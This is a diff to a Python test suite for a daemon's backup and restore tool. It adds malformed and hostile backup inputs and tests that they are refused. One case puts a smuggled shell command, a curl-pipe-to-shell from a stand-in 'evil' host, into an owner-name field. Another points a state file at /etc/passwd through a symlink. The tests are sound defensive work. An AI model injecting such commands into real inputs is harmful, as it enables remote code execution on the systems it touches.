@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 
 from supervisor import daemon_backup, daemon_restore
 from supervisor.core.launch import Launch
-from supervisor.core.model import Release, Request, State
+from supervisor.core.model import Generation, Life, Release, Request, Role, State
 from supervisor.core.outcome import Outcome, Result
 from supervisor.engine import heritage
 from supervisor.engine.journal import Journal
@@ -63,7 +63,7 @@ class Host:
             f'{more}[[listen]]\naddress = "127.0.0.1:0"\n[releases]\nroot = "{self.layout.root}"\n{releases}'
         )
 
-    def remember(self, previous: str, concluded: int = 2) -> None:
+    def remember(self, previous: str, concluded: int = 2, serves: str | None = None) -> None:
         """What a supervisor writes."""
         self.state.mkdir(mode=0o700, exist_ok=True)
         (self.state / "history.jsonl").write_bytes(HISTORY + b'{"hando')
@@ -85,7 +85,16 @@ class Host:
             spoke_at=None,
             ended=1.0,
         )
-        written.write(State(previous=release, last_handoff=2, concluded=ended), synced=True)
+        about: dict[str, Any] = {
+            "number": 2,
+            "role": Role.SERVING,
+            "drain_signal": "TERM",
+            "life": Life.DOWN,
+            "since": 1.0,
+        }
+        serving = () if serves is None else (Generation(release=replace(release, version=serves), **about),)
+        state = State(previous=release, last_handoff=2, concluded=ended, generations=serving)
+        written.write(state, synced=True)
         written.close()
 
     def save(self, which: str = daemon_backup.USUAL, name: str = "t.tar.gz") -> Path:
@@ -411,6 +420,12 @@ def hostile(host: Host) -> dict[str, Path]:
         "/evil is nothing that a backup has": ({**config, "/evil": b"x"}, None),
         "names something twice": (config, lambda said: said["members"].append(said["members"][0])),
         "is no full path": (config, lambda said: said.update(config="web.toml")),
+        "inf is no time": (config, lambda said: said.update(made=float("inf"))),
+        "is no time": (config, lambda said: said.update(made="100")),
+        "is no user's name": (config, lambda said: said.update(owner="web /srv; curl evil|sh #")),
+        "the history in the backup is damaged": ({**config, "state/history.jsonl": b"[" * 200_000}, None),
+        "the journal in the backup": ({**config, "state/journal.json": b"[" * 200_000}, None),
+        "has more in it than any": (config, lambda said: said.update(refers=[[]] * 4_000_001)),
         "has mode 4755": (config, lambda said: said["members"][0].update(mode="4755")),
         "want a SHA-256": (config, lambda said: said["members"][0].update(sha256="x")),
         "is another than its manifest says": (config, lambda said: said["members"][0].update(size=1)),
@@ -494,6 +509,52 @@ def test_damage_is_refused_or_changes_nothing(tmp_path_factory: pytest.TempPathF
     assert found.manifest == before.manifest
 
 
+def test_what_somebody_has_signed_is_what_is_unpacked(host: Host) -> None:
+    file = host.save()
+    whole = file.read_bytes()
+    with restore.opened(file, Proof(signature=file)) as opened:
+        file.write_bytes(b"another")
+        assert opened.read() == whole
+
+
+def test_a_version_that_is_not_asked_for_stops_no_backup(host: Host) -> None:
+    shutil.copytree(host.layout.folder("v1"), host.layout.folder("v1-old"), symlinks=True)
+    damaged = host.layout.folder("v3") / ".gapless.json"
+    damaged.chmod(0o600)
+    damaged.write_text("junk")
+    saved = daemon_backup.save(host.config, "current", host.folder / "t.tar.gz")
+    told = "\n".join(saved.lacks)
+    assert "no manifest of v1-old: it has that of v1" in told
+    assert "no manifest of v3: " in told
+    host.lose()
+    assert put_back(host.folder / "t.tar.gz").new == ("v2",)
+
+
+def test_what_serves_is_in_it_though_current_leads_elsewhere(host: Host) -> None:
+    host.remember("v1", serves="v3")
+    saved = daemon_backup.save(host.config, "current", host.folder / "t.tar.gz")
+    assert set(saved.manifest.versions) == {"v2", "v3"}
+    assert "no agreement: v3 serves, and current leads to v2" in saved.lacks
+
+
+def test_what_nobody_could_restore_is_not_written_to_a_pipe_either(
+    host: Host, capfdbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    (host.folder / "zeros").write_bytes(bytes(100 << 20))
+    put(host.layout, offer(host.folder / "zeros", "v4"))
+    with pytest.raises(OperatorError, match="200 times"):
+        daemon_backup.save(host.config, "v4", None, stream=True)
+    assert capfdbinary.readouterr().out == b""
+    assert left(host.layout) == []
+
+
+def test_state_that_is_no_file_is_not_followed(host: Host) -> None:
+    (host.state / "history.jsonl").unlink()
+    (host.state / "history.jsonl").symlink_to("/etc/passwd")
+    with pytest.raises(HostError, match=r"history.jsonl is no plain file"):
+        host.save()
+
+
 def test_a_manifest_that_was_damaged_tells_so_itself(host: Host) -> None:
     """What is not packed has no checksum."""
     file = made_of(host, {"config.toml": host.config.read_bytes()})
@@ -505,7 +566,7 @@ def test_a_manifest_that_was_damaged_tells_so_itself(host: Host) -> None:
 
 
 def examined(file: Path) -> restore.Examined:
-    with restore.opened(file) as opened:
+    with restore.opened(file, Proof()) as opened:
         return restore.examine(opened, file, Proof())
 
 
